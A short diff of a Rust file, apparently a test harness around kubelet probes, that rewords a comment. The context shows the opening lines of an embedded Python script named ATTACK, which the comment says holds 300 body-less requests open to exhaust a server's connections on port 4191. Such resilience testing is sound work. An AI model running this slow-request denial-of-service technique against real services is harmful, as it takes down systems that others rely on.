@@ -16,8 +16,8 @@ const PROBE_MAX: Duration = Duration::from_millis(100);
 /// Time for which kubelets wait for an answer, by default.
 const KUBELET_TIMEOUT: Duration = Duration::from_secs(1);
 
-/// Opens 300 connections that each send a request without its body, prints when all are open, and then replaces the
-/// oldest again and again.
+/// Opens 300 connections that each send a request without its body, prints a line when all are open, and then replaces
+/// the oldest connection again and again.
 const ATTACK: &str = "import socket, sys, time
 def attack():
     s = socket.create_connection((sys.argv[1], 4191), 5)
